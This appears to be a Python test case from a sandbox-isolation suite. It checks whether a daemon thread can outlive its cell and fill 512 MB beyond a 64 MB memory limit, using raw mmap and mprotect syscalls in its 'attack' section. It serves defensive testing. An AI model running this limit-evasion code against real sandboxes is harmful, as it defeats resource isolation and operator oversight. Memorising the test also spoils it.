"""A thread that outlives its cell fills memory that no limit of the kernel counts, between two cells.

Escape: the guest lives with 512 MB more than memory_mb=64
Control: memory that was written can be made read-only
Limits: memory_mb=64, wall_s=12
Idle: 3
Expect: none
"""

# control
import ctypes
import errno
import os
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(x86_64, aarch64, *args):
    """A system call by its number on either processor: the result, and the name of its error."""
    number = x86_64 if os.uname().machine == "x86_64" else aarch64
    words = [a if isinstance(a, (bytes, ctypes.Array)) else ctypes.c_long(a) for a in args]
    ctypes.set_errno(0)
    return libc.syscall(ctypes.c_long(number), *words), errno.errorcode.get(ctypes.get_errno(), "")


def grow(most=512 << 20, piece=16 << 20):
    for _ in range(0, most, piece):
        address, _ = syscall(9, 222, 0, piece, 3, 0x22, -1, 0)
        ctypes.memset(address, 1, piece)
        syscall(10, 226, address, piece, 1)


def later():
    time.sleep(0.5)
    grow()
    time.sleep(60)


page, _ = syscall(9, 222, 0, 4096, 3, 0x22, -1, 0)
syscall(10, 226, page, 4096, 1)[0] == 0

# attack
threading.Thread(target=later, daemon=True).start()
